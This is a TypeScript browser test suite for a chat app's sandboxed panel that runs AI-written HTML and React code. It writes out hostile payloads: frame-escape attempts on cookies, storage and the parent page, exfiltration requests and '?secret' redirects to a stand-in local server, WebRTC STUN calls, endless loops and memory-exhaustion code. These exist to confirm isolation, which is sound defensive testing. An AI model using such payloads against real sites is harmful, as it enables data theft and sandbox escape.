import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import { networkInterfaces } from "node:os";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect } from "vitest";
import { listenLocally } from "../../fixtures/local-server.ts";
import { chat } from "../support/chat.ts";
import { launchChromium } from "../support/chromium.ts";
import { startEnvironment, test } from "../support/environment.ts";
import { storeThread } from "../support/store-thread.ts";
import { visit } from "../support/visit.ts";

const environment = startEnvironment();

/** A server that no program may reach, and the requests that it got. */
const elsewhere = { url: "", requests: [] as string[], close: async () => {} };

beforeAll(async () => {
  const server = createServer((request, response) => {
    elsewhere.requests.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end();
  });
  server.on("upgrade", (request, socket) => {
    elsewhere.requests.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  const { url, close } = await listenLocally(server);
  Object.assign(elsewhere, { url, close });
});
afterAll(async () => await elsewhere.close());

const panelOf = (page: Page) => page.getByRole("region", { name: "Panel" });

/** Opens a program in the panel and runs it. The answer is stored: a model server takes directives out of what it echoes. */
async function run(page: Page, code: string, language = "html") {
  await page.goto(
    await storeThread(page, [
      { role: "user", content: [{ type: "text", text: "Make" }] },
      { role: "assistant", content: [{ type: "text", text: `\`\`\`${language}\n${code}\n\`\`\`` }] },
    ]),
  );
  await page.getByRole("button", { name: "Open", exact: true }).click();
  const panel = panelOf(page);
  await panel.getByRole("button", { name: "Run" }).waitFor();
  expect(await panel.locator("iframe").count()).toBe(0);
  await panel.getByRole("button", { name: "Run" }).click();
  return { panel, frame: panel.frameLocator("iframe") };
}

/** Whether the frame of the program runs in the process of its page, so that one waits for the other. */
async function isInProcessOfPage(page: Page): Promise<boolean> {
  const frame = page.frames().find((each) => each !== page.mainFrame());
  return await page
    .context()
    .newCDPSession(frame!)
    .then(
      () => false,
      (error: unknown) => {
        if (/does not have a separate CDP session/.test(String(error))) return true;
        throw error;
      },
    );
}

/** Everything that a page can do to load something, to leave its frame, or to find something that is not its own. */
const attacks = (url: string) => `<!doctype html><title>Attack</title>
<link rel="stylesheet" href="${url}/style"><link rel="prefetch" href="${url}/prefetch"><link rel="preload" as="script" href="${url}/preload">
<link rel="modulepreload" href="${url}/modulepreload"><link rel="icon" href="${url}/icon"><link rel="manifest" href="${url}/manifest">
<base href="${url}/"><script src="relative.js"></script><script src="${url}/script.js"></script><script type="module" onerror="console.log('module refused')">import "${url}/module.js"</script>
<script type="module">console.log("module ran " + typeof import.meta.url)</script>
<style>@import url(${url}/import); @font-face { font-family: x; src: url(${url}/font) } body { background: url(${url}/background); font-family: x }</style>
<img src="${url}/image" srcset="${url}/set 2x"><svg><image href="${url}/svg"/><use href="${url}/use#a"/></svg><video src="${url}/video" poster="${url}/poster"></video>
<iframe src="${url}/frame"></iframe><object data="${url}/object"></object><embed src="${url}/embed">
<iframe srcdoc="<script>fetch('${url}/nested'); new Image().src = '${url}/nested-image'; try { top.location = '${url}/nested-top' } catch {}</script>"></iframe>
<form action="${url}/form" target="_top"><input name="a"></form><a id="blank" target="_blank" href="${url}/blank" ping="${url}/ping">a</a><a id="top" target="_top" href="${url}/top-link">b</a>
<script>
const found = {};
const attempt = (name, act) => { try { found[name] = String(act()) } catch (error) { found[name] = error.name } };
attempt("origin", () => origin);
attempt("parent document", () => parent.document.title);
attempt("parent storage", () => parent.localStorage.length);
attempt("frame element", () => frameElement);
attempt("page's message", () => globalThis.event?.ports.length);
attempt("cookies", () => document.cookie);
attempt("local storage", () => localStorage.length);
attempt("session storage", () => sessionStorage.length);
attempt("databases", () => indexedDB.open("a"));
attempt("window", () => open("${url}/open"));
attempt("top", () => { top.location = "${url}/top" });
attempt("parent address", () => { parent.location.hash = "moved" });
attempt("dialog", () => confirm("Allow?"));
attempt("form", () => { document.forms[0].submit(); document.forms[0].requestSubmit() });
attempt("links", () => { document.getElementById("blank").click(); document.getElementById("top").click() });
attempt("beacon", () => navigator.sendBeacon("${url}/beacon", "a"));
attempt("socket", () => { new WebSocket("${url.replace("http", "ws")}/socket") });
attempt("events", () => { new EventSource("${url}/events") });
attempt("worker", () => { new Worker(URL.createObjectURL(new Blob(["fetch('${url}/worker')"]))) });
attempt("service worker", () => navigator.serviceWorker.register("/program-frame.js"));
attempt("peer", () => new RTCPeerConnection());
attempt("request", () => { const request = new XMLHttpRequest(); request.open("GET", "${url}/request", false); request.send() });
const asked = ["${url}/fetch", location.origin + "/v1/threads", "/v1/threads"].map((address) => fetch(address, { credentials: "include" }).then(() => "answered", () => "refused"));
const imported = import("${url}/import.js").then(() => "imported", () => "refused");
Promise.all([...asked, imported]).then((answers) => console.log("found " + JSON.stringify({ ...found, answers })));
</script>`;

test("runs a program without a network, and without a way to the page, its data or another window (CVE-2026-42045, CVE-2026-70486)", async () => {
  const ada = await visit(environment.browser, environment.server.url);
  const { page } = ada;
  const { panel } = await run(page, attacks(elsewhere.url));
  const address = page.url();
  await panel.getByRole("button", { name: /^Console/ }).waitFor();
  const printed = panel.getByText(/^found /);
  await printed.waitFor();
  const found = JSON.parse((await printed.innerText()).slice("found ".length)) as Record<string, unknown>;
  expect(found).toMatchObject({
    origin: "null",
    "parent document": "SecurityError",
    "parent storage": "SecurityError",
    "frame element": "null",
    "page's message": "undefined",
    cookies: "SecurityError",
    "local storage": "SecurityError",
    "session storage": "SecurityError",
    window: "null",
    top: "SecurityError",
    "parent address": "SecurityError",
    dialog: "false",
    peer: "ReferenceError",
    answers: ["refused", "refused", "refused", "refused"],
  });
  // A classic script cannot have `import.meta`.
  await panel.getByText("module ran string").waitFor();
  await panel.getByText("module refused").waitFor();
  // Whatever is still on its way.
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  expect(elsewhere.requests).toEqual([]);
  expect(page.url()).toBe(address);
  expect(ada.context.pages()).toHaveLength(1);
  expect(await page.evaluate("[origin, document.title].join()")).not.toContain("Attack");
  await ada.context.close();
});

test("keeps a program from connecting by WebRTC, also in frames that it makes", async () => {
  const udp = createSocket("udp4");
  const packets: string[] = [];
  udp.on("message", (_, { address }) => packets.push(address));
  await new Promise<void>((bound) => udp.bind(0, "0.0.0.0", bound));
  const here = Object.values(networkInterfaces())
    .flat()
    .find((each) => each?.family === "IPv4" && !each.internal);
  const stun = `stun:${here?.address ?? "127.0.0.1"}:${udp.address().port}`;
  const connect = `function connect(w) { const c = new w.RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)); }`;
  const inFrame = `<iframe srcdoc="<script>${connect} connect(window)</script>"></iframe>`;
  const ada = await visit(environment.browser, environment.server.url);
  const { panel } = await run(
    ada.page,
    `<!doctype html><title>Calls</title><body>${inFrame}<div><template shadowrootmode="closed">${inFrame}</template></div>
<script>${connect}
try { connect(window) } catch {}
const make = (where) => { const f = document.createElement("iframe"); where.append(f); try { connect(f.contentWindow ?? window[0]) } catch {} return f };
make(document.body);
const attach = (options) => { const host = document.createElement("div"); document.body.append(host); return host.attachShadow(options) };
make(attach({ mode: "closed" }));
const root = attach({ mode: "open", clonable: true }); root.innerHTML = ${JSON.stringify(inFrame).replaceAll("</", "<\\/")};
document.body.append(root.host.cloneNode(true), document.importNode(root.host, true));
setTimeout(() => { make(document.body); document.body.insertAdjacentHTML("beforeend", ${JSON.stringify(inFrame).replaceAll("</", "<\\/")}); console.error("made") }, 300);
</script>`,
  );
  await panel.getByText("made").waitFor();
  await new Promise((resolve) => setTimeout(resolve, 2_500));
  expect(packets).toEqual([]);
  await ada.context.close();
  udp.close();
});

// The panel waits some seconds for each program before it stops it.
test(
  "stops a program that goes to another server, to the app or to a script",
  { timeout: 120_000 },
  async ({ ada }) => {
    const waysOut = [
      `<script>location = "${elsewhere.url}/?secret"</script>`,
      `<meta http-equiv="refresh" content="0; url=${elsewhere.url}/?secret">`,
      `<script>location = "${environment.server.url}/"</script>`,
      `<script>location = "data:text/html,<script>top.x=1<\\/script>"</script>`,
    ];
    const attempt = async (way: string) => {
      const { panel } = await run(await ada.tab(), `<!doctype html><title>Away</title>${way}`);
      await panel
        .getByRole("alert")
        .getByText(/was stopped/)
        .waitFor();
      expect(await panel.locator("iframe").count(), way).toBe(0);
    };
    await Promise.all(waysOut.map(attempt));
    expect(elsewhere.requests).toEqual([]);
    await ada.context.close();
  },
);

test.each([
  ["loops without an end", "for (;;) {}"],
  [
    "allocates without an end",
    "for (const all = []; ; ) { all.push(new Array(100_000).fill(1)); for (let i = 0; i < 3e7; i++); }",
  ],
])("stops a program that %s while the page answers keys", async (_, code) => {
  // As in Chromium with a window: the headless shell runs all frames in one process by default.
  const browser = await launchChromium(["--site-per-process"]);
  const ada = await visit(browser, environment.server.url);
  const { page } = ada;
  const { composer } = chat(page);
  const { panel } = await run(
    page,
    `<!doctype html><title>Loop</title><script>console.log("Begins"); setTimeout(() => { ${code} }, 500)</script>`,
  );
  await panel.getByRole("button", { name: /^Console/ }).waitFor();
  // Playwright may hear of the frame's own process after the page has heard from the program.
  await expect.poll(async () => await isInProcessOfPage(page)).toBe(false);
  // Until the program blocks its frame.
  await page.waitForTimeout(1_000);
  const stopped = panel.getByRole("alert").getByText("did not respond");
  let typed = "";
  for (; (await stopped.count()) === 0; typed += "a") await composer.press("a");
  expect(typed.length).toBeGreaterThan(5);
  expect(await composer.inputValue()).toBe(typed);
  await panel.getByRole("button", { name: "Fix this" }).click();
  expect(await composer.inputValue()).toContain("did not respond");
  await ada.end();
  await browser.close();
});

test.each([
  [
    "a page",
    "html",
    "<!doctype html><title>Loop</title><script>for (;;) try { while (true); } catch {}</script>",
  ],
  ["React", "jsx", "export default function App() { while (true); }"],
])("stops an endless loop of %s where the frame shares the page's process", async (_, language, code) => {
  const browser = await launchChromium([
    "--disable-site-isolation-trials",
    "--disable-features=IsolateSandboxedIframes,IsolateOrigins,site-per-process",
  ]);
  const ada = await visit(browser, environment.server.url);
  const { page } = ada;
  const { composer } = chat(page);
  const attached = page.waitForEvent("frameattached");
  const running = run(page, code, language);
  await attached;
  expect(await isInProcessOfPage(page)).toBe(true);
  const { panel } = await running;
  await panel.getByRole("alert").getByText("did not respond for 5 seconds").waitFor();
  expect(await panel.locator("iframe").count()).toBe(0);
  await composer.press("a");
  expect(await composer.inputValue()).toBe("a");
  await panel.getByRole("button", { name: "Fix this" }).click();
  expect(await composer.inputValue()).toContain("did not respond");
  await ada.context.close();
  await browser.close();
});

test(
  "stops a program that keeps ever more memory between its turns, but not one that drops it",
  { timeout: 120_000 },
  async () => {
    const ada = await visit(environment.browser, environment.server.url, { networkErrorsExpected: true });
    const { page } = ada;
    const { composer } = chat(page);
    // A module with a memory of its own, which its function grows by 64 MiB.
    const module =
      "0,97,115,109,1,0,0,0,1,4,1,96,0,0,3,2,1,0,5,3,1,0,1,7,9,2,1,109,2,0,1,103,0,0,10,10,1,8,0,65,128,8,64,0,26,11";
    const instance = `new WebAssembly.Instance(new WebAssembly.Module(new Uint8Array([${module}])))`;
    const drops =
      "new Uint8Array(1e7); let moved = new ArrayBuffer(1e7); moved = moved.transfer(1e7 + 1); (globalThis.memory ??= new WebAssembly.Memory({ initial: 1_000 })).grow(1); all[0] = new Uint8Array(memory.buffer)";
    // The browser gives memory to a buffer when it is written.
    const keeps = [
      "for (let i = 0; i < 20_000; i++) all.push(new Uint8Array(1_000))",
      "all[0] ??= new ArrayBuffer(0, { maxByteLength: 2e9 }); all[0].resize(all[0].byteLength + 5e7)",
      "all.push(new ArrayBuffer(1).transfer(1e8))",
      "const memory = new WebAssembly.Memory({ initial: 1_000 }); all.push(memory, memory.buffer)",
      `const { g, m } = (all[0] ??= ${instance}).exports; g(); new Uint8Array(m.buffer)`,
      "all.push(new Uint8Array(1e8))",
    ];
    const blocks = [drops, ...keeps].map(
      (turn, i) =>
        `\`\`\`html title="Turns ${i}"\n<!doctype html><script>const all = []; let turns = 0; setInterval(() => { ${turn}; if (++turns === 200) console.error("200 turns") }, 10)</script>\n\`\`\``,
    );
    const thread = await storeThread(page, [
      { role: "user", content: [{ type: "text", text: "Make" }] },
      { role: "assistant", content: [{ type: "text", text: blocks.join("\n\n") }] },
    ]);
    await page.goto(thread);
    await page.getByRole("button", { name: "Open", exact: true }).first().waitFor();
    const panel = panelOf(page);
    const runTurns = async (i: number) => {
      await page.evaluate(
        (address) => history.pushState({}, "", address),
        `${thread}?panel=${encodeURIComponent(`html:Turns ${i}`)}`,
      );
      await panel.getByRole("heading", { name: `Turns ${i}` }).waitFor();
      await panel.getByRole("button", { name: "Run" }).click();
    };
    await runTurns(0);
    await panel.getByText("200 turns").waitFor();
    expect(await panel.locator("iframe").count()).toBe(1);
    for (const [i, turn] of keeps.entries()) {
      await runTurns(i + 1);
      await panel.getByRole("alert").getByText("more than 1 GiB of memory").waitFor();
      expect(await panel.locator("iframe").count(), turn).toBe(0);
    }
    await panel.getByRole("button", { name: "Fix this" }).click();
    expect(await composer.inputValue()).toContain("GiB of memory");
    await ada.context.close();
  },
);

test("shows a page, what it prints and its errors, and asks for a fix, on a phone", async () => {
  const ada = await visit(environment.browser, environment.server.url, { width: 390 });
  const { page } = ada;
  const { composer } = chat(page);
  const html = `<!doctype html>
<title>Counter</title>
<button onclick="this.textContent = ++count">0</button>
<script>
  let count = 0;
  console.log("Started", { at: [1] }, "<b>not bold</b>");
  setTimeout(() => missing(), 100);
</script>`;
  const { panel, frame } = await run(page, html);
  await frame.getByRole("button", { name: "0" }).click();
  await frame.getByRole("button", { name: "1" }).waitFor();
  await panel.getByText("1 error").waitFor();
  await panel.getByText('Started {"at":[1]} <b>not bold</b>').waitFor();
  await panel.getByText("missing is not defined (line 4 of its script)").waitFor();
  await panel.getByRole("button", { name: "Fix this" }).click();
  await expect
    .poll(async () => await composer.inputValue())
    .toMatch(/^> Counter \(HTML\)\n\n.*Fix this error:\n\n```\n.*missing is not defined/);
  await expect
    .poll(async () => await composer.evaluate((field) => field === document.activeElement))
    .toBe(true);
  await ada.context.close();
});

test("serves the frame with a policy of its own, and no other page of the app can be framed (GHSA-vjm7-m4xh-7wrc, Open WebUI 18387)", async () => {
  const frame = await fetch(`${environment.server.url}/program`);
  const policy = frame.headers.get("content-security-policy") ?? "";
  for (const rule of [
    "sandbox allow-scripts",
    "default-src 'none'",
    "connect-src 'none'",
    "webrtc 'block'",
    "frame-ancestors 'self'",
  ])
    expect(policy.split("; ")).toContain(rule);
  expect(frame.headers.get("connection-allowlist")).toBe("()");
  expect(policy).not.toMatch(/allow-same-origin|https?:|\*/);
  for (const path of ["/", "/t/thread_a", "/docs", "/program-frame.js", "/s/unknown"]) {
    const page = await fetch(`${environment.server.url}${path}`, { headers: { Accept: "text/html" } });
    expect(page.headers.get("content-security-policy"), path).toContain("frame-ancestors 'none'");
  }
});

const counter = `import { useState } from "react";

export default function Counter() {
  const [count, setCount] = useState<number>(0);
  return <button onClick={() => setCount(count + 1)}>{"</script>" + count}</button>;
}`;

test("runs a React component, and says what it cannot import", async ({ ada, page }) => {
  const { panel, frame } = await run(page, counter, "tsx");
  await frame.getByRole("button", { name: "</script>0" }).click();
  await frame.getByRole("button", { name: "</script>1" }).waitFor();
  expect(await panel.getByRole("button", { name: "Fix this" }).count()).toBe(0);

  // Without an export, and rendered by the program itself.
  const plain = `const App = () => <p>Plain {React.version.length > 0 && "React"}</p>;`;
  const itself = `import { createRoot } from "react-dom/client";\ncreateRoot(document.getElementById("root")).render(<p>By itself</p>);`;
  for (const [code, text] of [
    [plain, "Plain React"],
    [itself, "By itself"],
  ] as const) {
    await panel.getByRole("button", { name: "Close" }).click();
    await (await run(page, code, "jsx")).frame.getByText(text).waitFor();
  }

  await panel.getByRole("button", { name: "Close" }).click();
  await run(page, `import { Sun } from "lucide-react";\nexport default () => <Sun />;`, "jsx");
  await panel.getByText('Cannot import "lucide-react". A program can import: react,').waitFor();
  await panel.getByRole("button", { name: "Fix this" }).click();
  await expect.poll(async () => await chat(page).composer.inputValue()).toContain("lucide-react");
  // Its error is one of the browser too.
  await ada.context.close();
});
